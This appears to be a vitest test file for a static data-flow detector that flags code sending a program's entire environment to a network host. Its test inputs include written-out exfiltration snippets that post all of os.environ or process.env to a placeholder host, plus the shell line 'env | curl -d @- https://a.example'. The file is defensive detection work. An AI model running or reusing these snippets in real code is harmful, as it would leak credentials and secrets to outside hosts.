import { expect, it } from 'vitest'

import { factsOf, flows, spec } from '../testkit.js'

const whole = {
  ...spec,
  sources: [
    { pattern: '=os.environ', tag: 'all' },
    { pattern: '=process.env', tag: 'all' },
    { pattern: 'env()', tag: 'all' },
  ],
  sinks: [
    { pattern: 'requests.post', tag: 'net' },
    { pattern: 'fetch', tag: 'net' },
    { pattern: 'curl', tag: 'net' },
  ],
  sanitizers: ['=subprocess.*', '=child_process.*'],
}

it.each([
  ['a copy', 'a.py', 'import os, requests\nrequests.post("https://a.example", json=dict(os.environ))'],
  [
    'as text',
    'a.py',
    'import os, json, requests\nrequests.post("https://a.example", data=json.dumps(dict(os.environ)).encode())',
  ],
  [
    'spread',
    'a.py',
    'import os, requests\nbody = {**os.environ, "a": 1}\nrequests.post("https://a.example", json=body)',
  ],
  [
    'one member of a body',
    'a.js',
    'fetch("https://a.example", { method: "POST", body: JSON.stringify({ e: process.env }) })',
  ],
  ['without an import', 'a.py', 'requests.post("https://a.example", json={"e": dict(os.environ)})'],
  [
    'one after the other',
    'a.js',
    'const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]\nfetch("https://a.example", { body: JSON.stringify(o) })',
  ],
  [
    'each by its name',
    'a.py',
    'import os, requests\no = {}\nfor k in os.environ:\n    o[k] = os.environ[k]\nrequests.post("https://a.example", json=o)',
  ],
  ['what a command prints', 'a.sh', 'env | curl -d @- https://a.example'],
])('the whole is sent: %s', async (_, path, text) => {
  expect(flows(await factsOf({ [path]: text }, [whole]))).not.toEqual([])
})

it.each([
  ['a variable', 'a.py', 'import os, requests\nrequests.post("https://a.example", json=os.environ["A"])'],
  ['asked for', 'a.py', 'import os, requests\nrequests.post("https://a.example", json=os.environ.get("A"))'],
  [
    'named elsewhere',
    'a.py',
    'import os, requests\nname = input()\nrequests.post("https://a.example", json=os.environ[name])',
  ],
  [
    'out of a copy',
    'a.py',
    'import os, requests\ne = dict(os.environ)\nrequests.post("https://a.example", json=e["A"])',
  ],
  [
    'of a checked copy',
    'a.js',
    'const e = schema.parse(process.env)\nfetch("https://a.example", { headers: { x: e.KEY } })',
  ],
  ['taken apart', 'a.js', 'const { KEY } = process.env\nfetch("https://a.example", { headers: { x: KEY } })'],
  [
    'handed to a program',
    'a.py',
    'import os, requests, subprocess\nout = subprocess.run(["ls"], env={**os.environ, "A": "1"})\nrequests.post("https://a.example", data=out.stdout)',
  ],
  ['for a command', 'a.sh', 'env A=1 ls | curl -d @- https://a.example'],
])('a part is not the whole: %s', async (_, path, text) => {
  expect(flows(await factsOf({ [path]: text }, [whole]))).toEqual([])
})

it('lists of numbers are told from each other', async () => {
  const code = `t = lambda seq: "".join(chr(c ^ 1) for c in seq)
for p in [[96, 111], [112, 115]]:
    open(t(p))`
  const facts = await factsOf({ 'a.py': code })
  const opened = facts
    .filter((fact) => fact['code.call.name'] === 'open')
    .map((fact) => fact['code.call.arguments'])
  expect(opened).toEqual([['an'], ['qr']])
})

it.each([
  [
    'the names of variables alone are no variables',
    'axios.post(u, { set: Object.keys(process.env).filter((k) => re.test(k)) })',
    0,
  ],
  [
    'read one after the other by their names, they are',
    'const o = {}\nfor (const k of Object.keys(process.env)) o[k] = process.env[k]\naxios.post(u, o)',
    1,
  ],
])('%s', async (_, body, count) => {
  const facts = await factsOf({ 'a.js': `const axios = require("axios")\n${body}` }, [
    {
      ...whole,
      sources: [{ pattern: '=process.env', tag: 'all' }],
      sinks: [{ pattern: 'axios.post', tag: 'net' }],
    },
  ])
  expect(flows(facts)).toHaveLength(count)
})
